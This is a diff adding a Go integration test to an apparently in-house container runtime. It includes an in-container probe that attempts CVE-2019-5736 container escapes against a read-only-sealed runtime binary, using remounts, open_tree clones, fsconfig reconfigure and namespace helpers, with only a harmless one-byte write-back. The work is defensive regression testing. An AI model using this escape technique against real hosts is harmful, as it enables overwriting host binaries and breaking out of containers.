@@ -28,12 +28,15 @@ package integration
 
 import (
 	"bytes"
+	"context"
 	"crypto/sha256"
+	"errors"
 	"fmt"
 	"io"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"sort"
 	"strconv"
 	"strings"
 	"testing"
@@ -155,6 +158,164 @@ func TestEscapeCVE2019_5736ShebangSelfExe(t *testing.T) {
 	if escSHA256(t, bin) != before {
 		t.Fatalf("host runtime binary changed")
 	}
+}
+
+// CVE-2019-5736 against the seal itself: the attacker does not reopen the
+// runtime's exe as it is, but first tries to undo whatever makes it
+// read-only. A container process polls /proc for the runtime's processes
+// (an exec'd `myrun init` before it execs the user's process, and the
+// runtime binary run again by a "#!/proc/self/exe" entrypoint), takes
+// their exe, map_files and fds of the binary, and tries mount_setattr
+// clearing MOUNT_ATTR_RDONLY, open_tree clones (cleared, reconfigured rw,
+// attached and remounted without MS_RDONLY), from its own namespaces and
+// from a helper that is root in a user+mount namespace of its own, then
+// reopens every view for writing until the runs are over. A read-only bind
+// mount falls to this (mount_setattr works on a detached mount while the
+// host-side runtime holds it); a lower-only overlayfs or a sealed memfd
+// does not. Two attackers: with CAP_SYS_ADMIN and CAP_SYS_PTRACE (map_files
+// and non-dumpable processes are open to it) and with the default
+// capabilities. Execs take both paths (constructor and Go init) and `run`
+// of a container in the attacker's pid namespace takes the create path.
+func TestEscapeCVE2019_5736RemountSeal(t *testing.T) {
+	probe := escProbe(t)
+	for _, tc := range []struct {
+		name string
+		caps []string
+	}{
+		{"cap_sys_admin", []string{"CAP_SYS_ADMIN", "CAP_SYS_PTRACE"}},
+		{"default_caps", nil},
+	} {
+		t.Run(tc.name, func(t *testing.T) { escRemountSeal(t, probe, tc.caps) })
+	}
+}
+
+func escRemountSeal(t *testing.T, probe string, caps []string) {
+	bin := escCopyMyrun(t)
+	before := escSHA256(t, bin)
+	a := newBundle(t, []string{"/probe", "seal", "/ready", "/stop", "/report", "600"}, func(s *rspec.Spec) {
+		s.Root.Readonly = false
+		c := s.Process.Capabilities
+		c.Bounding = append(c.Bounding, caps...)
+		c.Effective = append(c.Effective, caps...)
+		c.Permitted = append(c.Permitted, caps...)
+	})
+	arootfs := filepath.Join(a.dir, "rootfs")
+	escInstall(t, probe, filepath.Join(arootfs, "probe"))
+	entry := []byte("#!/proc/self/exe\n")
+	if err := os.WriteFile(filepath.Join(arootfs, "entry"), entry, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if _, errs, code := escRun(t, bin, nil, "--root", a.root, "run", "-d", "--bundle", a.dir, a.id); code != 0 {
+		t.Fatalf("run attacker: %s", errs)
+	}
+	escWaitFor(t, 10*time.Second, "attacker ready", func() bool { return escExists(filepath.Join(arootfs, "ready")) })
+	apid := int(a.state()["pid"].(float64))
+	// ioPriority sends the exec through Go init.
+	goInit := a.processFile("goinit.json", rspec.Process{Args: []string{"/entry"}, Cwd: "/", Env: []string{"PATH=/bin"},
+		IOPriority: &rspec.LinuxIOPriority{Class: rspec.IOPRIO_CLASS_BE, Priority: 4}})
+	v := newBundle(t, []string{"/entry"}, func(s *rspec.Spec) {
+		for i, ns := range s.Linux.Namespaces {
+			if ns.Type == rspec.PIDNamespace {
+				s.Linux.Namespaces[i].Path = fmt.Sprintf("/proc/%d/ns/pid", apid)
+			}
+		}
+	})
+	if err := os.WriteFile(filepath.Join(v.dir, "rootfs/entry"), entry, 0o755); err != nil {
+		t.Fatal(err)
+	}
+
+	report := filepath.Join(arootfs, "report")
+	caught := func() int {
+		raw, _ := os.ReadFile(report)
+		return strings.Count("\n"+string(raw), "\ncaught ")
+	}
+	// At least 30 rounds; more until the attacker has caught a few
+	// runtime processes (each catch is attacked every way).
+	// The runs' own results do not matter (the shebang entrypoint fails);
+	// a start refused with ETXTBSY means someone holds the binary open for
+	// writing, which the write attempts below then report.
+	busy := 0
+	runIt := func(args ...string) {
+		for i := 0; i < 100; i++ {
+			ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+			err := exec.CommandContext(ctx, bin, args...).Run()
+			cancel()
+			if !errors.Is(err, unix.ETXTBSY) {
+				return
+			}
+			busy++
+			time.Sleep(10 * time.Millisecond)
+		}
+	}
+	n := 0
+	for ; n < 30 || (caught() < 6 && n < 300); n++ {
+		switch {
+		case n%12 == 3:
+			runIt("--root", v.root, "run", "--bundle", v.dir, v.id)
+			runIt("--root", v.root, "delete", "--force", v.id)
+		case n%3 == 0:
+			runIt("--root", a.root, "exec", a.id, "/entry")
+		case n%3 == 1:
+			runIt("--root", a.root, "exec", "-p", goInit, a.id)
+		default:
+			runIt("--root", a.root, "exec", a.id, "true")
+		}
+	}
+	if busy > 0 {
+		t.Errorf("CVE-2019-5736: the runtime binary was held open for writing (%d starts refused with ETXTBSY)", busy)
+	}
+	os.WriteFile(filepath.Join(arootfs, "stop"), nil, 0o644)
+	escWaitFor(t, 60*time.Second, "attacker report", func() bool {
+		raw, _ := os.ReadFile(report)
+		return bytes.HasSuffix(raw, []byte("done\n"))
+	})
+	raw, _ := os.ReadFile(report)
+	// The report is long (every step of every catch): log a summary.
+	summary := map[string]int{}
+	for _, l := range strings.Split(string(raw), "\n") {
+		if strings.HasPrefix(l, "wrote ") {
+			t.Errorf("CVE-2019-5736: the container reopened the runtime binary for writing and wrote to it: %s", l)
+		}
+		if l != "" {
+			summary[escReportKey(l)]++
+		}
+	}
+	keys := make([]string, 0, len(summary))
+	for k := range summary {
+		keys = append(keys, k)
+	}
+	sort.Strings(keys)
+	var sb strings.Builder
+	for _, k := range keys {
+		fmt.Fprintf(&sb, "%5d %s\n", summary[k], k)
+	}
+	t.Logf("%d runs, %d runtime processes caught; attacker report summary:\n%s", n, caught(), sb.String())
+	if caught() == 0 {
+		t.Fatalf("the attacker never caught a runtime process in %d runs: cannot judge", n)
+	}
+	if escSHA256(t, bin) != before {
+		t.Fatalf("CVE-2019-5736: the host runtime binary changed")
+	}
+}
+
+// escReportKey folds a line of the seal attacker's report into a summary
+// key: the pid goes, the kind of handle (exe, map_files, fd) stays.
+func escReportKey(l string) string {
+	f := strings.Fields(l)
+	switch {
+	case len(f) >= 3 && (f[0] == "caught" || f[0] == "opath-failed"):
+		f = append(f[:1:1], f[2:]...)
+	case len(f) >= 3 && strings.Contains(f[2], ":"):
+		kind := strings.SplitN(f[2], ":", 3)[1]
+		f = append(f[:2:2], append([]string{kind}, f[3:]...)...)
+	}
+	out := f[:0]
+	for _, w := range f {
+		if !strings.HasPrefix(w, "dev=") && !strings.HasPrefix(w, "ino=") {
+			out = append(out, w)
+		}
+	}
+	return strings.Join(out, " ")
 }
 
 // CVE-2024-21626: a runtime that leaks its own fds (or the caller's) into
@@ -886,6 +1047,14 @@ func escProbe(t testing.TB) string {
 //	                       not running busybox or the probe, take O_PATH on
 //	                       their exe, then reopen for writing and write back
 //	                       one byte; R: ready file, S: stop file, OUT: report
+//	seal R S OUT SECS      CVE-2019-5736 against the seal: as attack, but on
+//	                       catching a process it takes its exe, map_files and
+//	                       fds of the binary and tries every way to make them
+//	                       writable (mount_setattr, open_tree clones,
+//	                       fsconfig reconfigure, bind and superblock remounts)
+//	                       itself and in helpers of its own mount and
+//	                       user+mount namespaces (sealhelper), retrying the
+//	                       write until the stop file and a grace period
 const escProbeSrc = `// Go's runtime would otherwise keep cgroup cpu files open for GOMAXPROCS.
 //go:debug containermaxprocs=0
 //go:debug updatemaxprocs=0
@@ -894,10 +1063,13 @@ package main
 import (
 	"fmt"
 	"os"
+	"os/exec"
 	"strconv"
 	"strings"
+	"sync"
 	"syscall"
 	"time"
+	"unsafe"
 )
 
 const oPath = 0x200000 // O_PATH, missing from package syscall
@@ -934,6 +1106,11 @@ func main() {
 				fmt.Printf("%s other mode %o\n", p, st.Mode)
 			}
 		}
+	case "seal":
+		secs, _ := strconv.Atoi(os.Args[5])
+		seal(os.Args[2], os.Args[3], os.Args[4], time.Duration(secs)*time.Second)
+	case "sealhelper":
+		sealHelper(os.Args[2], os.Args[3])
 	case "attack":
 		secs, _ := strconv.Atoi(os.Args[5])
 		attack(os.Args[2], os.Args[3], os.Args[4], time.Duration(secs)*time.Second)
@@ -1038,5 +1215,404 @@ func attack(ready, stop, out string, d time.Duration) {
 		syscall.Close(fd)
 	}
 	say("done")
+}
+
+// CVE-2019-5736 against a sealed runtime binary: every way a process in the
+// container might regain write access to the file behind /proc/<pid>/exe
+// of the runtime. Syscall numbers are the same on every architecture.
+const (
+	sysOpenTree     = 428
+	sysMoveMount    = 429
+	sysFsconfig     = 431
+	sysFspick       = 433
+	sysMountSetattr = 442
+
+	openTreeClone   = 1
+	atEmptyPath     = 0x1000
+	attrRdonly      = 1
+	fspickCloexec   = 1
+	fspickEmptyPath = 8
+	fsconfigSetFlag = 0
+	fsconfigReconf  = 7
+	moveMountFEmpty = 4
+	ovlMagic        = 0x794c7630
+	stRdonly        = 1
+)
+
+var (
+	rep   *os.File
+	repMu sync.Mutex
+	noStr = []byte{0}
+)
+
+func say(f string, a ...any) {
+	repMu.Lock()
+	fmt.Fprintf(rep, f+"\n", a...)
+	repMu.Unlock()
+}
+
+func errStr(err error) string {
+	if err == nil {
+		return "ok"
+	}
+	return err.Error()
+}
+
+func sysErr(e syscall.Errno) error {
+	if e == 0 {
+		return nil
+	}
+	return e
+}
+
+func setattrClearRO(fd int) error {
+	attr := [4]uint64{0, attrRdonly, 0, 0}
+	_, _, e := syscall.Syscall6(sysMountSetattr, uintptr(fd), uintptr(unsafe.Pointer(&noStr[0])), atEmptyPath, uintptr(unsafe.Pointer(&attr)), 32, 0)
+	return sysErr(e)
+}
+
+func openTree(fd int) (int, error) {
+	r, _, e := syscall.Syscall(sysOpenTree, uintptr(fd), uintptr(unsafe.Pointer(&noStr[0])), openTreeClone|syscall.O_CLOEXEC|atEmptyPath)
+	return int(r), sysErr(e)
+}
+
+// reconfigureRW asks the superblock under fd to become writable.
+func reconfigureRW(fd int) error {
+	r, _, e := syscall.Syscall(sysFspick, uintptr(fd), uintptr(unsafe.Pointer(&noStr[0])), fspickCloexec|fspickEmptyPath)
+	if e != 0 {
+		return fmt.Errorf("fspick: %v", e)
+	}
+	fs := int(r)
+	defer syscall.Close(fs)
+	key := []byte("rw\x00")
+	if _, _, e := syscall.Syscall6(sysFsconfig, uintptr(fs), fsconfigSetFlag, uintptr(unsafe.Pointer(&key[0])), 0, 0, 0); e != 0 {
+		return fmt.Errorf("fsconfig rw: %v", e)
+	}
+	if _, _, e := syscall.Syscall6(sysFsconfig, uintptr(fs), fsconfigReconf, 0, 0, 0, 0); e != 0 {
+		return fmt.Errorf("reconfigure: %v", e)
+	}
+	return nil
+}
+
+func moveMount(fd int, to string) error {
+	p, _ := syscall.BytePtrFromString(to)
+	_, _, e := syscall.Syscall6(sysMoveMount, uintptr(fd), uintptr(unsafe.Pointer(&noStr[0])), uintptr(0xffffff9c), uintptr(unsafe.Pointer(p)), moveMountFEmpty, 0)
+	return sysErr(e)
+}
+
+// sbReadOnly: only a superblock that is read-only itself is worth a
+// reconfigure (the host's is writable already, and is left alone).
+func sbReadOnly(fd int, mountCleared bool) bool {
+	var s syscall.Statfs_t
+	if syscall.Fstatfs(fd, &s) != nil {
+		return false
+	}
+	return s.Type == ovlMagic || (mountCleared && s.Flags&stRdonly != 0)
+}
+
+type target struct {
+	tag, what, route string
+	fd               int
+	path             string
+	done             bool
+	last             error
+}
+
+type attacker struct {
+	tag    string
+	attach string
+	mu     sync.Mutex
+	ts     []*target
+	n      int
+}
+
+func (a *attacker) add(what, route string, fd int, path string) {
+	a.mu.Lock()
+	a.ts = append(a.ts, &target{tag: a.tag, what: what, route: route, fd: fd, path: path})
+	a.mu.Unlock()
+}
+
+// handle tries every mount-level way to make h writable, and queues each
+// resulting view for write attempts.
+func (a *attacker) handle(what string, h int) {
+	a.add(what, "reopen", h, "")
+	err := setattrClearRO(h)
+	say("step %s %s setattr-handle %s", a.tag, what, errStr(err))
+	if sbReadOnly(h, err == nil) {
+		say("step %s %s reconfigure-handle %s", a.tag, what, errStr(reconfigureRW(h)))
+	}
+	c, err := openTree(h)
+	say("step %s %s open_tree-clone %s", a.tag, what, errStr(err))
+	if err != nil {
+		return
+	}
+	a.add(what, "clone", c, "")
+	err = setattrClearRO(c)
+	say("step %s %s setattr-clone %s", a.tag, what, errStr(err))
+	sbro := sbReadOnly(c, err == nil)
+	if sbro {
+		say("step %s %s reconfigure-clone %s", a.tag, what, errStr(reconfigureRW(c)))
+	}
+	if a.attach == "" {
+		return
+	}
+	a.mu.Lock()
+	a.n++
+	p := a.attach + "/f" + strconv.Itoa(a.n)
+	a.mu.Unlock()
+	if f, err := os.Create(p); err == nil {
+		f.Close()
+	}
+	// move_mount takes the clone out of its own namespace: clone again.
+	c2, err := openTree(h)
+	if err != nil {
+		c2 = c
+	}
+	if err := moveMount(c2, p); err != nil {
+		say("step %s %s move_mount %s", a.tag, what, errStr(err))
+		return
+	}
+	say("step %s %s remount-bind %s", a.tag, what, errStr(syscall.Mount("", p, "", syscall.MS_REMOUNT|syscall.MS_BIND, "")))
+	if sbro {
+		say("step %s %s remount-sb %s", a.tag, what, errStr(syscall.Mount("", p, "", syscall.MS_REMOUNT, "")))
+	}
+	a.add(what, "attached", -1, p)
+}
+
+// try reopens every queued view for writing; a view that opens gets its
+// first byte written back (harmless) and is reported.
+func (a *attacker) try(final bool) {
+	a.mu.Lock()
+	ts := append([]*target(nil), a.ts...)
+	a.mu.Unlock()
+	for _, t := range ts {
+		if t.done {
+			continue
+		}
+		p := t.path
+		if p == "" {
+			p = "/proc/self/fd/" + strconv.Itoa(t.fd)
+		}
+		fd, err := syscall.Open(p, syscall.O_RDWR|syscall.O_CLOEXEC, 0)
+		if err != nil {
+			t.last = err
+			if final {
+				state := "refused"
+				if err == syscall.ETXTBSY {
+					state = "busy"
+				}
+				say("%s %s %s %s %v", state, t.tag, t.what, t.route, err)
+			}
+			continue
+		}
+		t.done = true
+		var st syscall.Stat_t
+		syscall.Fstat(fd, &st)
+		b := make([]byte, 1)
+		syscall.Pread(fd, b, 0)
+		if _, err := syscall.Pwrite(fd, b, 0); err != nil {
+			say("write-refused %s %s %s dev=%d ino=%d %v", t.tag, t.what, t.route, st.Dev, st.Ino, err)
+		} else {
+			say("wrote %s %s %s dev=%d ino=%d", t.tag, t.what, t.route, st.Dev, st.Ino)
+		}
+		syscall.Close(fd)
+	}
+}
+
+func (a *attacker) loop(done <-chan struct{}) {
+	for {
+		select {
+		case <-done:
+			a.try(true)
+			return
+		case <-time.After(5 * time.Millisecond):
+			a.try(false)
+		}
+	}
+}
+
+// sealHelper runs in a namespace of its own (mount, or user+mount), gets
+// handles from the main probe over fd 3 and attacks them from there.
+func sealHelper(tag, out string) {
+	var err error
+	rep, err = os.OpenFile(out, os.O_WRONLY|os.O_APPEND, 0)
+	if err != nil {
+		os.Exit(1)
+	}
+	a := &attacker{tag: tag}
+	if err := syscall.Mount("", "/", "", syscall.MS_REC|syscall.MS_PRIVATE, ""); err != nil {
+		say("step %s - private %v", tag, err)
+	} else if err := syscall.Mount("tmpfs", "/tmp", "tmpfs", 0, ""); err != nil {
+		say("step %s - tmpfs %v", tag, err)
+	} else {
+		a.attach = "/tmp"
+	}
+	say("helper %s up uid=%d", tag, os.Getuid())
+	done := make(chan struct{})
+	loopDone := make(chan struct{})
+	go func() { a.loop(done); close(loopDone) }()
+	buf := make([]byte, 512)
+	oob := make([]byte, syscall.CmsgSpace(64*4))
+	for {
+		n, oobn, _, _, err := syscall.Recvmsg(3, buf, oob, 0)
+		if err != nil || n == 0 {
+			break
+		}
+		what := string(buf[:n])
+		msgs, _ := syscall.ParseSocketControlMessage(oob[:oobn])
+		for _, m := range msgs {
+			fds, _ := syscall.ParseUnixRights(&m)
+			pid, names, _ := strings.Cut(what, ":")
+			for i, name := range strings.Split(names, ",") {
+				if i < len(fds) {
+					a.handle(pid+":"+name, fds[i])
+				}
+			}
+		}
+	}
+	close(done)
+	<-loopDone
+}
+
+type helper struct {
+	tag  string
+	sock int
+	cmd  *exec.Cmd
+}
+
+func seal(ready, stop, out string, d time.Duration) {
+	var err error
+	rep, err = os.OpenFile(out, os.O_CREATE|os.O_WRONLY|os.O_TRUNC|os.O_APPEND, 0o644)
+	if err != nil {
+		os.Exit(1)
+	}
+	self := os.Getpid()
+	selfExe, _ := os.Readlink("/proc/self/exe")
+	var helpers []*helper
+	for _, h := range []struct {
+		tag   string
+		flags uintptr
+	}{{"mntns", syscall.CLONE_NEWNS}, {"userns", syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS}} {
+		sp, err := syscall.Socketpair(syscall.AF_UNIX, syscall.SOCK_SEQPACKET|syscall.SOCK_CLOEXEC, 0)
+		if err != nil {
+			say("helper %s socketpair %v", h.tag, err)
+			continue
+		}
+		cmd := exec.Command("/proc/self/exe", "sealhelper", h.tag, out)
+		cmd.ExtraFiles = []*os.File{os.NewFile(uintptr(sp[1]), "sock")}
+		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: h.flags}
+		if h.flags&syscall.CLONE_NEWUSER != 0 {
+			// No id maps (mapping uid 0 needs CAP_SETFCAP, which a
+			// default container lacks): the helper keeps its capabilities
+			// in the namespace through exec as ambient ones, as a C
+			// attacker that unshares and does not exec would.
+			cmd.SysProcAttr.AmbientCaps = []uintptr{0, 1, 2, 3, 19, 21} // CHOWN DAC_OVERRIDE DAC_READ_SEARCH FOWNER SYS_PTRACE SYS_ADMIN
+		}
+		err = cmd.Start()
+		syscall.Close(sp[1])
+		if err != nil {
+			say("helper %s failed %v", h.tag, err)
+			syscall.Close(sp[0])
+			continue
+		}
+		helpers = append(helpers, &helper{h.tag, sp[0], cmd})
+	}
+	a := &attacker{tag: "main"}
+	done := make(chan struct{})
+	loopDone := make(chan struct{})
+	go func() { a.loop(done); close(loopDone) }()
+	seen := map[string]bool{}
+	deadline := time.Now().Add(d)
+	os.WriteFile(ready, nil, 0o644)
+	for time.Now().Before(deadline) {
+		if _, err := os.Stat(stop); err == nil {
+			break
+		}
+		ents, _ := os.ReadDir("/proc")
+		for _, e := range ents {
+			pid, err := strconv.Atoi(e.Name())
+			if err != nil || pid == self {
+				continue
+			}
+			base := "/proc/" + e.Name()
+			link, err := os.Readlink(base + "/exe")
+			key := e.Name() + " " + link
+			if err != nil || seen[key] || link == selfExe || strings.HasSuffix(link, "busybox") {
+				continue
+			}
+			seen[key] = true
+			catch(a, helpers, pid, base, link)
+		}
+		time.Sleep(200 * time.Microsecond)
+	}
+	// The runtime has stopped executing its binary by now: a file that
+	// was busy is free.
+	time.Sleep(500 * time.Millisecond)
+	for _, h := range helpers {
+		syscall.Close(h.sock)
+	}
+	for _, h := range helpers {
+		h.cmd.Wait()
+	}
+	close(done)
+	<-loopDone
+	say("done")
+}
+
+// catch takes every handle on the runtime's binary that pid offers: its
+// exe, its file mappings and its fds of that size (a map_files entry may
+// name another file than exe does: that is the point of trying it).
+func catch(a *attacker, helpers []*helper, pid int, base, link string) {
+	h, err := syscall.Open(base+"/exe", oPath|syscall.O_CLOEXEC, 0)
+	if err != nil {
+		say("opath-failed %d %s %v", pid, link, err)
+		return
+	}
+	var est syscall.Stat_t
+	syscall.Fstat(h, &est)
+	hs, names := []int{h}, []string{"exe"}
+	a.add(strconv.Itoa(pid)+":exe", "path", -1, base+"/exe")
+	seen := map[[2]uint64]bool{}
+	var nmaps, nfds int
+	for _, dir := range []string{"map_files", "fd"} {
+		ents, err := os.ReadDir(base + "/" + dir)
+		if err != nil {
+			say("step main %d %s %v", pid, dir, err)
+		}
+		for _, e := range ents {
+			p := base + "/" + dir + "/" + e.Name()
+			fd, err := syscall.Open(p, oPath|syscall.O_CLOEXEC, 0)
+			if err != nil {
+				say("step main %d %s-open %v", pid, dir, err)
+				continue
+			}
+			var st syscall.Stat_t
+			syscall.Fstat(fd, &st)
+			id := [2]uint64{uint64(st.Dev), st.Ino}
+			if st.Mode&syscall.S_IFMT != syscall.S_IFREG || st.Size != est.Size || seen[id] {
+				syscall.Close(fd)
+				continue
+			}
+			seen[id] = true
+			what := strconv.Itoa(pid) + ":" + dir + ":" + e.Name()
+			hs, names = append(hs, fd), append(names, dir+":"+e.Name())
+			a.add(what, "path", -1, p)
+			if dir == "fd" {
+				nfds++
+			} else {
+				nmaps++
+			}
+		}
+	}
+	say("caught %d %s maps=%d fds=%d", pid, link, nmaps, nfds)
+	for _, hp := range helpers {
+		msg := strconv.Itoa(pid) + ":" + strings.Join(names, ",")
+		if err := syscall.Sendmsg(hp.sock, []byte(msg), syscall.UnixRights(hs...), nil, 0); err != nil {
+			say("step main %d send-%s %v", pid, hp.tag, err)
+		}
+	}
+	for i, fd := range hs {
+		a.handle(strconv.Itoa(pid)+":"+names[i], fd)
+	}
 }
 `
